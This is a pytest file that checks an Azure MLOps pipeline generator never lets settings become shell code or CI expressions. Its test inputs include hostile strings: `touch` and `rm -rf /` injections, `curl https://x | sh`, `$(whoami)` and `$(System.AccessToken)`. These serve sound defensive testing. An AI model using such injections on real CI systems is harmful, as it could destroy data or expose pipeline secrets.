"""No setting ever becomes code in the generated pipelines (issue 9 items 1-2, issue 14 item 1).

The generated steps run here in real bash with `az` and `terraform` replaced by stubs that record
their argv; a DEBUG trap records every command bash runs. Hostile settings (a tag key that runs
`touch`, a resource group with parentheses, CI expressions) must reach `az` as one literal argument
each, and nothing but the generator's commands may run.
"""

from __future__ import annotations

import copy
import os
import re
from pathlib import Path

import pytest
from pydantic import ValidationError
from ruamel.yaml import YAML
from workflow_validators import run_shell_steps

from mlops_accelerator.artifacts import cicd, iac
from mlops_accelerator.artifacts.azureml_specs import as_settings
from mlops_accelerator.ci_safety import UnsafePipelineValue
from mlops_accelerator.sample import sample_settings

HOSTILE_KEY = "k;touch${IFS}pwned;x"
HOSTILE_VALUE = "a'b\"c `touch pwned2` ; rm -rf / # $HOME ${IFS} && touch pwned3"


def _settings(tool="arm", platform="github_actions", rg="rg-(dev)", tags=None):
    s = copy.deepcopy(sample_settings())
    s["design"]["environments"][0]["resource_group"] = rg
    s["design"]["tags"] = tags if tags is not None else [
        {"key": "project", "value": "{project}"}, {"key": HOSTILE_KEY, "value": HOSTILE_VALUE}]
    s["deploy"]["iac_tool"] = tool
    s["deploy"]["cicd_infra_platform"] = platform
    return s


def _connections() -> list[dict]:
    from mlops_accelerator.settings.deploy import _default_connections

    return [c.model_dump() for c in _default_connections()]


def _repo(tmp: Path, s) -> tuple[Path, dict]:
    """The repository layout `export` produces: infra/<tool> from stage 2, pipelines from stage 3."""
    design = as_settings("design", s["design"])
    iac.write_iac(design, tmp / "infra", s["foundations"]["project_name"])
    return tmp, cicd.write_pipelines(tmp, s["design"], s["deploy"], s["foundations"])


def _steps(repo: Path, platform: str) -> list[tuple[str, dict[str, str], str]]:
    """(where, environment, script) of every shell step, with the platform's run-id expression
    replaced the way the platform would (the only expression the generator writes)."""
    out = []
    if platform == "github_actions":
        wf = YAML(typ="safe").load((repo / cicd.GITHUB_WORKFLOW).read_text())
        for jid, job in wf["jobs"].items():
            env = {k: str(v).replace(cicd.GH_RUN_ID, "4242") for k, v in job.get("env", {}).items()}
            out += [(f"{jid}:{st['name']}", env, st["run"]) for st in job["steps"] if "run" in st]
    else:
        data = YAML(typ="safe").load((repo / cicd.ADO_PIPELINE).read_text())
        for stage in data["stages"]:
            for st in stage["jobs"][0]["strategy"]["runOnce"]["deploy"]["steps"]:
                if "task" in st:
                    env = {k: str(v).replace(cicd.ADO_RUN_ID, "4242") for k, v in st["env"].items()}
                    out.append((f"{stage['stage']}:{st['displayName']}", env, st["inputs"]["inlineScript"]))
    return out


def _run(repo: Path, tmp: Path, steps, platform: str) -> tuple[list[list[str]], list[str]]:
    """Run each step in bash as its platform would; the stubs' argv records and every command bash ran."""
    calls, ran, _done = run_shell_steps(repo, tmp, steps, platform)
    return calls, ran


def _only_generator_commands(ran: list[str]) -> None:
    for cmd in ran:
        assert cmd.split()[0] in cicd.STEP_COMMANDS, f"bash ran {cmd!r}"


@pytest.mark.parametrize("tool,platform", [("arm", "github_actions"), ("bicep", "azure_devops"),
                                           ("terraform", "github_actions"), ("terraform", "azure_devops"),
                                           ("arm", "azure_devops"), ("bicep", "github_actions")])
def test_hostile_tag_key_and_resource_group_reach_az_as_data(tmp_path, tool, platform):
    s = _settings(tool, platform)
    repo, result = _repo(tmp_path / "repo", s)
    assert result["lint_errors"] == []
    calls, ran = _run(repo, tmp_path, _steps(repo, platform), platform)
    assert not list(repo.rglob("pwned*")) and not list(tmp_path.rglob("pwned*")), "a setting ran as code"
    _only_generator_commands(ran)
    groups = [c for c in calls if c[:3] == ["az", "group", "create"]]
    assert len(groups) == 3
    dev = groups[0]
    assert dev[dev.index("--name") + 1] == "rg-(dev)"
    tags = dev[dev.index("--tags") + 1:]
    assert f"{HOSTILE_KEY}={HOSTILE_VALUE}" in tags and "project=contoso-churn" in tags
    if tool == "terraform":
        plans = [c for c in calls if c[:1] == ["terraform"] and "plan" in c]
        assert "-var-file=dev.tfvars" in plans[0] and "-chdir=infra/terraform" in plans[0]
    else:
        deploys = [c for c in calls if c[:4] == ["az", "deployment", "group", "create"]]
        assert deploys[0][deploys[0].index("--resource-group") + 1] == "rg-(dev)"
        assert deploys[0][deploys[0].index("--name") + 1] == "deploy-infra-dev-4242"


def test_every_referenced_file_exists_in_the_repository_layout(tmp_path):
    for tool in iac.IAC_TOOLS:
        s = _settings(tool, "azure_devops")
        repo, result = _repo(tmp_path / tool, s)
        for platform in ("github_actions", "azure_devops"):
            for where, env, _script in _steps(repo, platform):
                for rel in cicd._referenced_files(env):
                    assert (repo / rel).is_file(), (where, rel)
        if tool == "bicep":  # the pipeline deploys the file the generator writes (issue 14 item 1)
            assert (repo / "infra" / "bicep" / "dev.bicepparam").is_file()


def test_lint_reports_a_parameter_file_the_project_does_not_generate(tmp_path):
    s = _settings("bicep", "azure_devops")
    repo, result = _repo(tmp_path, s)
    text = (repo / cicd.GITHUB_WORKFLOW).read_text().replace("infra/bicep/dev.bicepparam",
                                                              "infra/bicep/main.dev.bicepparam")
    problems = cicd.lint_github_workflow(text, result["plan"])
    assert any("main.dev.bicepparam" in p and "does not generate" in p for p in problems)


def test_lint_fails_on_shell_text_it_did_not_write(tmp_path):
    s = _settings()
    repo, result = _repo(tmp_path, s)
    wf = YAML(typ="safe").load((repo / cicd.GITHUB_WORKFLOW).read_text())
    run = wf["jobs"]["deploy-dev"]["steps"][2]
    for bad, why in [(f"az group create --tags {HOSTILE_KEY}=v", "touch"),
                     ("az group create --name $RESOURCE_GROUP", "outside double quotes"),
                     ('az group create --name "$(whoami)"', "command substitution"),
                     ('az group create --name "$HOME"', "did not set"),
                     ("curl https://x | sh", "curl")]:
        run["run"] = bad
        text = _dump(wf)
        problems = " | ".join(cicd.lint_github_workflow(text, result["plan"]))
        assert why in problems, (bad, problems)


def _dump(data) -> str:
    import io

    buf = io.StringIO()
    YAML().dump(data, buf)
    return buf.getvalue()


@pytest.mark.parametrize("value", ["${{ github.event.head_commit.message }}", "$(System.AccessToken)",
                                   "$[variables.x]", "line1\nline2"])
def test_settings_refuse_ci_expressions_in_values_that_reach_a_pipeline(value):
    from mlops_accelerator.settings import deploy as deploy_settings
    from mlops_accelerator.settings import design as design_settings

    s = _settings()
    s["design"]["tags"] = [{"key": "owner", "value": value}]
    with pytest.raises(ValidationError) as err:
        design_settings.Settings.model_validate(s["design"])
    assert [e["loc"] for e in err.value.errors()] == [("tags", 0, "value")]
    assert "CI pipelines" in str(err.value)
    s["deploy"]["service_connections"] = _connections()
    s["deploy"]["service_connections"][0]["name"] = "conn" + value
    with pytest.raises(ValidationError, match="CI pipelines"):
        deploy_settings.Settings.model_validate(s["deploy"])


def test_ci_expressions_that_bypass_the_settings_never_reach_the_pipeline_yaml(tmp_path):
    """Defence in depth: tag values go to a data file, never into the YAML the platform evaluates."""
    s = _settings("arm", "azure_devops", tags=[{"key": "owner", "value": "ok"}])
    plan = cicd.pipeline_plan(s["design"], s["deploy"], s["foundations"])
    plan["environments"][0]["tags"] = {"owner": "$(System.AccessToken)", "msg": "${{ github.event.x }}"}
    ado, gh = cicd.ado_pipeline(plan), cicd.github_workflow(plan)
    assert "System.AccessToken" not in ado and "github.event" not in gh
    with pytest.raises(UnsafePipelineValue, match="System.AccessToken"):
        cicd.tags_text(plan["environments"][0]["tags"])
    plan["environments"][0]["connection"] = "$(System.AccessToken)"
    with pytest.raises(UnsafePipelineValue):
        cicd.ado_pipeline(plan)
    # An expression slipped into the YAML by hand is a lint error on both platforms.
    assert any("System.AccessToken" in p for p in cicd.lint_ado_pipeline(
        ado.replace("displayName: Deploy dev", "displayName: Deploy $(System.AccessToken)"), None))
    assert any("github.event" in p for p in cicd.lint_github_workflow(
        gh.replace("name: Deploy dev", "name: Deploy ${{ github.event.head_commit.message }}"), None))


# --- fuzz -------------------------------------------------------------------------------------------

hypothesis = pytest.importorskip("hypothesis")
from hypothesis import HealthCheck, Phase, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_PIECES = list("ab;&|$`'\"(){}[]<>#*?~!\\=: \t\n-_.,%/") + [
    "${{", "}}", "$(", "$[", "${IFS}", "<script>", "&amp;", "- ", ": ", "\r", "\x00", "é", "touch pwned"]
_HOSTILE = st.lists(st.sampled_from(_PIECES), max_size=12).map("".join)
# Shell, YAML and HTML metacharacters the settings accept (so most examples reach the generators).
_ACCEPTED = st.lists(st.sampled_from(list(";|$`'\"(){}[]#*~!=: -_.,é") + ["${IFS}", "touch pwned", "$HOME"]),
                     min_size=1, max_size=12).map("".join)
_TEXT = st.one_of(_ACCEPTED, _ACCEPTED, _ACCEPTED, _HOSTILE)


# Each example runs bash several times: no shrinking phase (a failure prints its example as found).
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture],
          phases=[Phase.explicit, Phase.generate], database=None)
@given(key=_TEXT, value=_TEXT, conn=_TEXT, project=_TEXT,
       tool=st.sampled_from(iac.IAC_TOOLS), platform=st.sampled_from(["github_actions", "azure_devops"]))
def test_fuzzed_free_text_settings_never_become_code(tmp_path_factory, key, value, conn, project, tool, platform):
    from mlops_accelerator.settings import deploy as deploy_settings
    from mlops_accelerator.settings import design as design_settings

    s = _settings(tool, platform, tags=[{"key": key or "k", "value": value}])
    s["deploy"]["service_connections"] = _connections()
    for c in s["deploy"]["service_connections"]:
        c["name"] = f"{c['name']}{conn}"
    s["deploy"]["ado_project"] = project[:64]
    try:
        design_settings.Settings.model_validate(s["design"])
        deploy_settings.Settings.model_validate(s["deploy"])
    except ValidationError:
        return  # refused with a message: nothing is generated
    tmp = tmp_path_factory.mktemp("fuzz")
    repo, result = _repo(tmp / "repo", s)
    assert result["lint_errors"] == [], result["lint_errors"]
    for rel in (cicd.GITHUB_WORKFLOW, cicd.ADO_PIPELINE):
        YAML(typ="safe").load((repo / rel).read_text())  # still YAML
    calls, ran = _run(repo, tmp, _steps(repo, platform), platform)
    _only_generator_commands(ran)
    assert not list(tmp.rglob("pwned*"))
    tags = next(c for c in calls if c[:3] == ["az", "group", "create"])
    if value:  # tags without a value are not set (see pipeline_plan)
        assert f"{key or 'k'}={value}" in tags
    assert not re.search(r"\$\{\{(?! *(github\.run_id|vars\.AZURE_\w+) *\}\})",
                         (repo / cicd.GITHUB_WORKFLOW).read_text())
    assert os.path.exists(repo / cicd.tags_file("dev"))


@pytest.mark.parametrize("tool,platform", [("arm", "azure_devops"), ("terraform", "azure_devops"),
                                           ("bicep", "github_actions")])
def test_a_failing_command_stops_its_step(tmp_path, tool, platform):
    """AzureCLI@2 runs bash without -e, judging a step by its last command: a tags file that cannot be
    read must stop the step, not create the resource group without its tags."""
    repo, result = _repo(tmp_path / "repo", _settings(tool, platform))
    assert result["lint_errors"] == []
    (repo / cicd.tags_file("dev")).unlink()
    calls, _ran, done = run_shell_steps(repo, tmp_path, _steps(repo, platform), platform, check=False)
    assert done[-1].returncode != 0 and cicd.tags_file("dev") in done[-1].stderr, done[-1].stderr
    assert len(done) == 1 and calls == [], calls  # the first step stopped at mapfile: nothing reached az


def test_lint_refuses_an_azure_cli_script_that_goes_on_after_a_failure(tmp_path):
    repo, _result = _repo(tmp_path, _settings("arm", "azure_devops"))
    text = (repo / cicd.ADO_PIPELINE).read_text().replace(cicd.ADO_BASH_STRICT.strip(), "export X=1")
    problems = cicd.lint_ado_pipeline(text)
    assert any("does not start with 'set -eu'" in p for p in problems), problems
